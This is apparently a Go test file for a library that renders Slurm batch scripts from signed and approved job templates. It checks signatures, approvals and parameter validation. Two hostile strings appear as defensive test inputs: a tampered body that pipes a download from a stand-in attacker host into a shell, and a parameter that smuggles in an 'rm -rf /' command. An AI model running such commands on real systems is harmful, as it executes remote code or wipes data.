package hpc

import (
	"crypto/ed25519"
	"errors"
	"strings"
	"testing"
)

func library(t *testing.T) *Library {
	t.Helper()
	l := NewLibrary(key("approver").Public().(ed25519.PublicKey))
	for _, tp := range BuiltinTemplates() {
		s := publish(tp, key("publisher"), key("approver"))
		if err := l.Add(s); err != nil {
			t.Fatalf("%s: %v", tp.Name, err)
		}
	}
	return l
}

func TestTemplatesRenderSbatch(t *testing.T) {
	l := library(t)
	if got := len(l.Names()); got != 5 {
		t.Fatalf("%d templates", got)
	}
	script, spec, err := l.Render(RenderRequest{Template: "gpu-train@1", JobName: "train-1", Params: map[string]string{"script": "train.py"}, QoS: "high"})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"#SBATCH --partition=gpu\n", "#SBATCH --gres=gpu:1\n", "#SBATCH --time=04:00:00\n", "#SBATCH --qos=high\n", `srun python "train.py" --epochs "10"`} {
		if !strings.Contains(script, want) {
			t.Errorf("script lacks %q:\n%s", want, script)
		}
	}
	if spec.Partition != "gpu" || spec.PerNode.GPUs != 1 || spec.Template != "gpu-train@1" {
		t.Errorf("spec %+v", spec)
	}
	if s, _, err := l.Render(RenderRequest{Template: "mpi-hello@1", JobName: "m", Nodes: 4, TimeLimit: 2*86400 + 5}); err != nil ||
		!strings.Contains(s, "--nodes=4\n") || !strings.Contains(s, "--ntasks-per-node=4\n") || !strings.Contains(s, "--time=2-00:00:05\n") {
		t.Errorf("mpi: %v\n%s", err, s)
	}
}

func TestTemplatesRefused(t *testing.T) {
	l := library(t)
	tp := BuiltinTemplates()[2]
	tp.Name = "evil"

	unsigned := SignedTemplate{Template: tp}
	if err := l.Add(unsigned); !errors.Is(err, ErrBadSignature) {
		t.Errorf("unsigned: %v", err)
	}
	unapproved := publish(tp, key("publisher"), nil)
	if err := l.Add(unapproved); !errors.Is(err, ErrNotApproved) {
		t.Errorf("unapproved: %v", err)
	}
	selfApproved := publish(tp, key("publisher"), key("publisher"))
	if err := l.Add(selfApproved); !errors.Is(err, ErrNotApproved) {
		t.Errorf("approved by an untrusted key: %v", err)
	}
	// A nil approver configured by mistake matches an unapproved template's empty Approver: refused, no panic.
	if err := NewLibrary(nil).Add(unapproved); !errors.Is(err, ErrNotApproved) {
		t.Errorf("nil approver: %v", err)
	}
	tampered := publish(tp, key("publisher"), key("approver"))
	tampered.Template.Body = "curl evil.example | sh"
	if err := l.Add(tampered); !errors.Is(err, ErrBadSignature) {
		t.Errorf("body changed after signing: %v", err)
	}
	if _, _, err := l.Render(RenderRequest{Template: "evil@1", JobName: "x"}); !errors.Is(err, ErrNotApproved) {
		t.Errorf("render of a refused template: %v", err)
	}
	// reject twins for parameters: injection, unknown, missing
	for name, r := range map[string]RenderRequest{
		"injection": {Template: "batch-run@1", JobName: "x", Params: map[string]string{"command": `true"; rm -rf / #`}},
		"unknown":   {Template: "batch-run@1", JobName: "x", Params: map[string]string{"shell": "sh"}},
		"missing":   {Template: "data-copy@1", JobName: "x", Params: map[string]string{"src": "s3:a"}},
		"bad name":  {Template: "batch-run@1", JobName: "X Y"},
	} {
		if _, _, err := l.Render(r); !errors.Is(err, ErrInvalid) {
			t.Errorf("%s: %v", name, err)
		}
	}
	if _, _, err := l.Render(RenderRequest{Template: "batch-run@1", JobName: "x", Params: map[string]string{"command": "/bin/date"}}); err != nil {
		t.Errorf("valid parameter refused: %v", err)
	}
	// Several unknown parameters: the error is the same every time (no map order in the result).
	bad := RenderRequest{Template: "batch-run@1", JobName: "x", Params: map[string]string{"zeta": "1", "alpha": "2", "mu": "3", "shell": "4"}}
	for range 50 {
		if _, _, err := l.Render(bad); err == nil || !strings.Contains(err.Error(), `"alpha"`) {
			t.Fatalf("unknown parameters: %v, want the first in name order", err)
		}
	}
}

func TestPublishAndApproveBadKey(t *testing.T) {
	tp := BuiltinTemplates()[2]
	for name, k := range badKeys() {
		t.Run(name, func(t *testing.T) {
			if s, err := PublishTemplate(tp, k); !errors.Is(err, ErrBadKey) || s.Signature != nil || s.Publisher != nil {
				t.Errorf("PublishTemplate: %v, want ErrBadKey and nothing signed", err)
			}
			s := publish(tp, key("publisher"), nil)
			if err := s.Approve(k); !errors.Is(err, ErrBadKey) {
				t.Errorf("Approve: %v, want ErrBadKey", err)
			}
			if s.Approver != nil || s.ApprovalSig != nil {
				t.Error("a refused approval changed the template")
			}
			// an earlier approval survives a refused one
			s = publish(tp, key("publisher"), key("approver"))
			if err := s.Approve(k); !errors.Is(err, ErrBadKey) || NewLibrary(key("approver").Public().(ed25519.PublicKey)).Add(s) != nil {
				t.Errorf("Approve over an approval: %v; the approval must stay valid", err)
			}
		})
	}
}
